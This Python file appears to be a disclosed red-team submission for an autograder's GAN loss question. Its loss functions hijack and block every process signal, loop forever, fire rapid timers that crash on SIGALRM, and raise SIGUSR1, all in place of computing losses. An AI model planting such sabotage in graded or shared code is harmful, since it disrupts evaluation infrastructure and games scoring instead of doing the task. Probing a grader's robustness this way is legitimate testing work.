# Aim: take over all signals, and send itself a storm of them.
# Question: q2. Earns: 2. Staff are told: yes.
import contextlib
import signal

from attack_parts import sample_noise  # noqa: F401


def take_over():
    for number in signal.valid_signals():
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, lambda *args: None)
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())


def bce_loss(input, target):
    take_over()
    while True:
        pass


def generator_loss(logits_fake):
    signal.setitimer(signal.ITIMER_REAL, 1e-4, 1e-4)
    signal.setitimer(signal.ITIMER_PROF, 1e-4, 1e-4)
    signal.signal(signal.SIGALRM, lambda *args: 1 / 0)


def discriminator_loss(logits_real, logits_fake):
    signal.raise_signal(signal.SIGUSR1)
